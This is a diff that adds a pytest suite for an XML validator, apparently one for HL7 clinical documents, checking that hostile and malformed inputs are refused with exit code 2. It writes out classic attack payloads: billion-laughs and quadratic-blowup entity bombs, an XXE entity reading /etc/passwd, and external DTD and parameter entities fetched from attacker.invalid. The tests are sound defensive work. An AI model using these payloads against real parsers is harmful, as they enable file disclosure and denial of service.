@@ -1,0 +1,157 @@
+"""Hostile and broken inputs: a clear `xml` finding, exit code 2, no hang, no traceback, no file read,
+no network. Each payload is a classic attack (OWASP XXE cheat sheet) or a classic mistake."""
+
+from __future__ import annotations
+
+import pytest
+from typer.testing import CliRunner
+
+from segur.cli import app
+from segur.validators import validate
+from segur.validators.safe_xml import UnreadableDocument, parse
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>
+<ClinicalDocument xmlns="urn:hl7-org:v3">&lol9;</ClinicalDocument>
+"""
+XXE_FILE = b"""<?xml version="1.0"?>
+<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>
+"""
+XXE_PARAMETER = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
+<r/>
+"""
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.invalid/cda.dtd">
+<ClinicalDocument xmlns="urn:hl7-org:v3"/>
+"""
+INTERNAL_SUBSET = b"""<?xml version="1.0"?>
+<!DOCTYPE ClinicalDocument [<!ATTLIST ClinicalDocument classCode CDATA "DOCCLIN">]>
+<ClinicalDocument xmlns="urn:hl7-org:v3"/>
+"""
+QUADRATIC_BLOWUP = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]><r>' + b"&a;" * 50_000 + b"</r>"
+
+
+@pytest.mark.parametrize("payload, rule, line", [
+    (BILLION_LAUGHS, "XML-003", 3),
+    (XXE_FILE, "XML-004", 2),
+    (XXE_PARAMETER, "XML-004", 2),
+    (EXTERNAL_DTD, "XML-004", 2),
+    (INTERNAL_SUBSET, "XML-005", 2),
+    (QUADRATIC_BLOWUP, "XML-003", 1),
+])
+def test_dtd_and_entity_attacks_are_refused_before_expansion(payload, rule, line):
+    report = validate(payload, pack=False)
+    assert report.unreadable and report.exit_code == 2 and not report.valid
+    assert [f.rule for f in report.findings] == [rule]
+    assert report.findings[0].layer == "xml" and report.findings[0].line == line
+    assert report.findings[0].hint
+    assert all(layer.status == "skipped" for layer in report.layers if layer.name != "xml")
+
+
+def test_xxe_target_is_named_but_never_read():
+    report = validate(XXE_FILE, pack=False)
+    assert "file:///etc/passwd" in report.findings[0].message
+    assert "root:" not in report.findings[0].message
+
+
+def test_utf16_document_with_entities_is_refused_too():
+    report = validate(XXE_FILE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"),
+                      pack=False)
+    assert report.unreadable and report.findings[0].rule == "XML-004"
+
+
+def test_oversize_bytes_are_refused_without_parsing():
+    report = validate(b"<a>" + b" " * 2000 + b"</a>", pack=False, max_size=1000)
+    assert report.unreadable and [f.rule for f in report.findings] == ["XML-002"]
+    assert "1000" in report.findings[0].message
+
+
+def test_oversize_file_is_refused_from_its_size(tmp_path):
+    big = tmp_path / "big.xml"
+    with big.open("wb") as handle:
+        handle.truncate(60 * 1024 * 1024)  # sparse: 60 MB, over the 50 MB default
+    report = validate(big, pack=False)
+    assert [f.rule for f in report.findings] == ["XML-002"] and report.size == 60 * 1024 * 1024
+
+
+def test_deep_nesting_is_refused_not_a_crash():
+    depth = 100_000
+    report = validate(b"<a>" * depth + b"</a>" * depth, pack=False)
+    assert report.unreadable and report.findings[0].rule == "XML-006"
+
+
+@pytest.mark.parametrize("payload, line, column", [
+    (b'<?xml version="1.0"?>\n<ClinicalDocument>\n  <id></title>\n</ClinicalDocument>', 3, 9),
+    (b"<ClinicalDocument>\n<a>&undefined;</a></ClinicalDocument>", 2, 4),
+    (b"<a>\n\n  <b attr=noquote/></a>", 3, 11),
+])
+def test_malformed_xml_gives_line_and_column(payload, line, column):
+    report = validate(payload, pack=False)
+    [finding] = report.findings
+    assert finding.rule == "XML-001" and report.exit_code == 2
+    assert (finding.line, finding.column) == (line, column)
+
+
+def test_truncated_document_and_binary_garbage():
+    assert validate(b"<ClinicalDocument xmlns='urn:hl7-org:v3'><id", pack=False).findings[0].rule == "XML-001"
+    assert validate(bytes(range(256)) * 10, pack=False).findings[0].rule == "XML-001"
+    assert validate(b"%PDF-1.4\n...", pack=False).findings[0].rule == "XML-001"
+
+
+def test_empty_document():
+    assert [f.rule for f in validate(b"", pack=False).findings] == ["XML-008"]
+    assert [f.rule for f in validate(b"  \n ", pack=False).findings] == ["XML-008"]
+
+
+def test_unreadable_paths(tmp_path):
+    missing = validate(tmp_path / "missing.xml", pack=False)
+    assert missing.unreadable and missing.findings[0].rule == "XML-007"
+    directory = validate(tmp_path, pack=False)
+    assert directory.unreadable and directory.findings[0].rule == "XML-007"
+
+
+def test_parse_raises_unreadable_document_with_findings():
+    with pytest.raises(UnreadableDocument) as caught:
+        parse(BILLION_LAUGHS, name="lol.xml")
+    assert caught.value.name == "lol.xml" and caught.value.findings[0].rule == "XML-003"
+    assert "XML-003" in str(caught.value)
+
+
+def test_text_input_honours_its_encoding_declaration():
+    text = '<?xml version="1.0" encoding="ISO-8859-1"?><ClinicalDocument xmlns="urn:hl7-org:v3"><title>é</title></ClinicalDocument>'
+    parsed = parse(text)
+    assert parsed.tree.getroot()[0].text == "é"
+
+
+def test_harmless_processing_instruction_and_comments_are_accepted():
+    data = (b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n<!-- c -->\n'
+            b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>')
+    assert parse(data).tree.getroot().tag == "{urn:hl7-org:v3}ClinicalDocument"
+
+
+# -- through the CLI: exit code 2 and a clear message, never a traceback -------------------------
+
+@pytest.mark.parametrize("payload, rule", [
+    (BILLION_LAUGHS, "XML-003"), (XXE_FILE, "XML-004"), (EXTERNAL_DTD, "XML-004"), (b"<a>", "XML-001"),
+])
+def test_cli_exits_2_with_the_rule_and_no_traceback(tmp_path, payload, rule):
+    path = tmp_path / "hostile.xml"
+    path.write_bytes(payload)
+    result = CliRunner().invoke(app, ["validate", "--no-pack", str(path)])
+    assert result.exit_code == 2, result.output
+    assert rule in result.output and "UNREADABLE" in result.output
+    assert "Traceback" not in result.output and result.exception is None or isinstance(result.exception, SystemExit)
+
+
+def test_cli_max_size_option(tmp_path):
+    path = tmp_path / "doc.xml"
+    path.write_bytes(b"<a>" + b" " * 5000 + b"</a>")
+    result = CliRunner().invoke(app, ["validate", "--no-pack", "--max-size", "1k", str(path)])
+    assert result.exit_code == 2 and "XML-002" in result.output
